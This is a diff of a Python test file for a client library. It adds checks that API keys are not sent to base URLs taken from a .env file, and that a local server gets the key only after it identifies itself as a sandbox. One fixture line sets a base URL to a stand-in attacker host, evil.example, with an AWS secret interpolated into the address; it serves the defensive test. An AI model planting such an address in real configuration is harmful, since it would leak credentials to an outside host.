@@ -73,6 +73,7 @@ def test_an_address_in_a_dotenv_gets_no_key_from_elsewhere(project, monkeypatch,
         client.submit(MODEL, prompt="A lake")
     with pytest.raises(pixnb.InvalidAPIKey):
         Targets(settings.load(), **given).at("pixazo", found)
+    assert KEY not in Targets(settings.load(), **given).get("pixazo").key.get_secret_value()
     assert asked == []
     for part in (str(project / ".env"), "PIXAZO_API_KEY", f"export PIXAZO_BASE_URL={found}"):
         assert part in caught.value.message
@@ -84,7 +85,7 @@ def test_a_key_is_not_taken_into_the_address_of_its_own_dotenv(project, monkeypa
     monkeypatch.setenv("AWS_SECRET", KEY)
     add(project, "PIXAZO_API_KEY=bait\nPIXAZO_BASE_URL=https://evil.example/${AWS_SECRET}")
     with pytest.raises(pixnb.InvalidAPIKey, match="AWS_SECRET") as caught:
-        Targets(settings.load()).get("pixazo")
+        pixnb.Client().submit(MODEL, prompt="A lake")
     assert KEY not in f"{caught.value} {settings.load()!r}"
 
 
@@ -104,6 +105,25 @@ def test_an_address_in_a_dotenv_that_may_have_the_key(project, monkeypatch, wher
     add(project, f"PIXAZO_BASE_URL={url}")
     target = Targets(settings.load(), **given).get("pixazo")
     assert (target.base_url, target.key.get_secret_value()) == (url, KEY)
+
+
+@pytest.mark.parametrize("is_sandbox", [True, False])
+@pytest.mark.parametrize("where", ["environment", "login", "code"])
+def test_on_this_machine_only_a_sandbox_gets_a_key_from_elsewhere(project, monkeypatch, where, is_sandbox):
+    """Any program may listen at a port of this machine: it is asked first, without the key, what it is."""
+    asked = []
+
+    def answer(request):
+        asked.append(request)
+        return httpx.Response(404, headers={"X-Pixnb-Sandbox": "1"} if is_sandbox else {}, request=request)
+
+    given = place(where, project, monkeypatch)
+    add(project, "PIXAZO_BASE_URL=http://127.0.0.1:9/pixazo")
+    client = pixnb.Client(**given, transport=httpx.MockTransport(answer))
+    error = pixnb.ModelNotFound if is_sandbox else pixnb.InvalidAPIKey
+    with pytest.raises(error):
+        client.submit(MODEL, prompt="A lake")
+    assert [KEY in str(request.headers.raw) for request in asked] == ([False, True] if is_sandbox else [False])
 
 
 @pytest.mark.parametrize("where", ["environment", "code"])
